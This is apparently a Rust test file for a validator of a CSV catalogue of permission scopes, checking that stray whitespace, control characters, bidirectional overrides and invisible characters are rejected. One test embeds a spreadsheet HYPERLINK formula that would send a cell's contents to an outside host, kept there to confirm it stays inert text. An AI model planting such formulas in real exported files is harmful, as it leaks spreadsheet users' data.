use super::{catalog, check, read};

#[test]
fn a_heading_that_ends_in_a_no_break_space() {
    check(
        "value,group\na,Phone Number\u{a0}\nb,Phone Number\u{a0}\nc,Phone Number\n",
        r#"
error: `group` ends with a no-break space (U+00A0)
 --> scopes.csv:2:15
  |
2 | a,Phone Number 
  |               ^ here, and on 1 row with the same text
  |
  = help: remove it: nothing is trimmed silently
"#,
    );
}

#[test]
fn a_heading_that_begins_with_a_space() {
    check(
        "value,group\na, SMS\n",
        r#"
error: `group` begins with a space
 --> scopes.csv:2:3
  |
2 | a, SMS
  |   ^ here
  |
  = help: remove it: nothing is trimmed silently
"#,
    );
}

#[test]
fn a_line_break_in_a_heading() {
    check(
        "value,group\na,\"S\nMS\"\n",
        r#"
error: a line break in `group`
 --> scopes.csv:2:5
  |
2 | a,"S
  |     ^ not text
  |
  = help: only a description has line breaks or tabs; remove it
"#,
    );
}

#[test]
fn a_control_character_in_a_description() {
    check(
        "value,description\na,bell \u{7}\n",
        r#"
error: a control character (U+0007) in `description`
 --> scopes.csv:2:8
  |
2 | a,bell ␇
  |        ^ not text
  |
  = help: of the control characters, a description has line breaks and tabs only
"#,
    );
}

#[test]
fn a_text_direction_control() {
    check(
        "value,deprecated\na,use \u{202e}b\n",
        r#"
error: a text direction control (U+202E) in `deprecated`
 --> scopes.csv:2:7
  |
2 | a,use �b
  |       ^ not text
  |
  = help: only a description has line breaks or tabs; remove it
"#,
    );
}

#[test]
fn a_carriage_return_in_a_description() {
    check(
        "value,description\na,\"one\rtwo\"\n",
        r#"
error: a carriage return in `description`
 --> scopes.csv:2:7
  |
2 | a,"one␍two"
  |       ^ not text
  |
  = help: of the control characters, a description has line breaks and tabs only
"#,
    );
}

#[test]
fn a_tab_in_an_id() {
    check(
        "value,id\na,\"1\t\"\n",
        r#"
error: a tab in `id`
 --> scopes.csv:2:5
  |
2 | a,"1    "
  |     ^^^^ not text
  |
  = help: only a description has line breaks or tabs; remove it
"#,
    );
}

/// What a spreadsheet would run is no more than text here.
#[test]
fn a_formula() {
    let formula = r#"=HYPERLINK("https://example.com/?"&A1,"Read messages")"#;
    let quoted = formula.replace('"', "\"\"");
    let catalog = catalog(&format!("value,description\nsms.read,\"{quoted}\"\n"));
    assert_eq!(catalog.scopes[0].description.as_deref(), Some(formula));
}

#[test]
fn a_character_in_an_id_that_cannot_be_seen() {
    check(
        "value,id\na,x\u{200b}1\nb,x1\u{2060}\n",
        "
error: a zero-width space (U+200B) in `id`
 --> scopes.csv:2:4
  |
2 | a,x\u{200b}1
  |    ^ cannot be seen
  |
  = help: remove it: this column is compared byte for byte

error: a word joiner (U+2060) in `id`
 --> scopes.csv:3:5
  |
3 | b,x1\u{2060}
  |     ^ cannot be seen
",
    );
}

#[test]
fn two_headings_that_look_the_same() {
    for hidden in ['\u{200b}', '\u{fe0f}', '\u{34f}', '\u{3164}'] {
        let report = read(format!("value,group\na,Phone\nb,Pho{hidden}ne\n"), None).unwrap_err();
        let message = format!(
            "error: two groups look the same: `Pho{}ne` and `Phone`",
            hidden.escape_unicode()
        );
        assert!(report.to_string().starts_with(&message), "{report}");
        assert_eq!(report.faults(), 1);
    }
}
